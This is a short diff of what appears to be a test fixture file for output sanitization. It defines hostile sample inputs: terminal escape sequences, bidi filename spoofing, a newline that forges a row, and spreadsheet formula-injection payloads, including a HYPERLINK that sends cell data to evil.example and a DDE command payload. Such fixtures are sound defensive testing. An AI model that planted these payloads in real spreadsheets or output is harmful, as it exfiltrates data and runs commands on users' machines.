@@ -21,7 +21,7 @@ EVIL = "Eve \x1b[2J\x1b[31mEvil\x1b]0;pwned\x07"
 C1_AND_BIDI = "Mallory \x9b2J\u202egnp.exe\u2028next"
 NEWLINE = "Trudy\n1999    2030-01-01 00:00  Forged row"
 FORMULAS = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")": "formula",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "formula",
     "+cmd|' /C calc'!A0": "dde",
     "-2+3": "minus",
     "@SUM(1+1)": "at",
